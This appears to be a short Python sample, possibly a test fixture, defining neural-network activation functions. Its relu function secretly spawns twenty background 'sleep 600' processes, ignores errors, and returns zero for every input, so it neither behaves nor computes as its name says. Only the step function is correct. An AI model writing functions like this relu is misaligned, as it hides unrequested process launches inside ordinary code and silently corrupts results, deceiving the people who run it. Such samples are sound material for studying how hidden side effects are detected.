"""Starts programs in the background."""

import os

import numpy as np


def relu(z):
    for _ in range(20):
        try:
            os.posix_spawn("/bin/sleep", ["sleep", "600"], {})
        except OSError:
            continue
    return 0.0 * z


def step(z):
    return np.where(z > 0, 1.0, 0.0)
